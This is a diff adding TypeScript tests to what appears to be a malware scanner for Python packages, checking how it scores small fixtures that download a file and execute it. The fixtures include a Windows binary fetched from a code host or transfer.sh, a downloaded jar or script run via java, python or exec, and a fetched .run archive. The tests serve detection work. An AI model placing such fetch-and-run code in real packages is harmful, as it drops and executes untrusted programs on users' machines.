@@ -500,3 +500,79 @@ test('Python from where anybody leaves files, put into the folder of the build, 
   expect(await built(left, 'words.txt')).toEqual([]);
   expect(await built('https://bootstrap.pypa.io/ez_setup.py', 'ez_setup.py')).toEqual([]);
 });
+
+test('a tool that a command fetches from a code host for any system is a tool, one for Windows alone is for a person to judge', async () => {
+  const of = (name: string, host = 'github.com'): Promise<readonly Finding[]> =>
+    inspect(
+      'dropper',
+      wheel({
+        'pkg/__init__.py': '',
+        'pkg/tunnel.py': python(
+          'import os, platform, subprocess, urllib.request',
+          'def serve():',
+          `    name = ${name}`,
+          "    path = os.path.join(os.path.dirname(__file__), 'bin', name)",
+          `    urllib.request.urlretrieve('https://${host}/example/agent/releases/download/1/agent', path)`,
+          "    subprocess.Popen([path, 'run'])",
+        ),
+      }),
+    );
+  const either = "'agent.exe' if platform.system() == 'Windows' else 'agent'";
+
+  expect((await of(either)).every((f) => f.score <= 5)).toBe(true);
+  expect(await of("'agent.exe'")).toMatchObject([{ class: 'malware', score: 9 }]);
+  expect(await of("'agent.exe' if platform.machine() else 'helper'")).toMatchObject([{ class: 'malware', score: 9 }]);
+  expect(await of(either, 'transfer.sh')).toMatchObject([{ class: 'malware', score: 10 }]);
+});
+
+test('a fetched document that a program in Java reads is not started, a fetched program is', async () => {
+  const of = (path: string, words: string): Promise<readonly Finding[]> =>
+    inspect(
+      'dropper',
+      wheel({
+        'pkg/__init__.py': '',
+        'pkg/tables.py': python(
+          'import subprocess, urllib.request',
+          'def tables(address):',
+          `    urllib.request.urlretrieve(address, '${path}')`,
+          `    subprocess.run(${words})`,
+        ),
+      }),
+    );
+
+  expect(await of('/tmp/paper.pdf', "['java', '-jar', 'reader.jar', '--pages', '1', '/tmp/paper.pdf']")).toEqual([]);
+  expect(await of('/tmp/paper.jar', "['java', '-jar', '/tmp/paper.jar', 'table.pdf']")).not.toEqual([]);
+  expect(await of('/tmp/paper.txt', "['python', '/tmp/paper.txt', 'table.pdf']")).not.toEqual([]);
+  expect(
+    await of(
+      '/tmp/paper.txt',
+      "['python', '-c', 'exec(open(__import__(\\'sys\\').argv[1]).read())', '/tmp/paper.txt']",
+    ),
+  ).not.toEqual([]);
+});
+
+test('an archive that a helper unpacks by its ending is not started by the branch for other endings', async () => {
+  const of = (name: string): Promise<readonly Finding[]> =>
+    inspect(
+      'dropper',
+      wheel({
+        'pkg/__init__.py': '',
+        'pkg/kit.py': python(
+          'import subprocess, urllib.request',
+          'from pathlib import Path',
+          'def unpack(archive, folder):',
+          '    path = Path(folder, archive)',
+          "    if path.suffix == '.zip':",
+          "        return subprocess.check_call(['unzip', str(path)])",
+          "    if path.suffix == '.run':",
+          '        return subprocess.check_call([str(path)])',
+          'def install(folder):',
+          `    urllib.request.urlretrieve('https://github.com/example/kit/archive/${name}', folder + '/${name}')`,
+          `    unpack('${name}', folder)`,
+        ),
+      }),
+    );
+
+  expect(await of('toolkit.zip')).toEqual([]);
+  expect(await of('toolkit.run')).not.toEqual([]);
+});
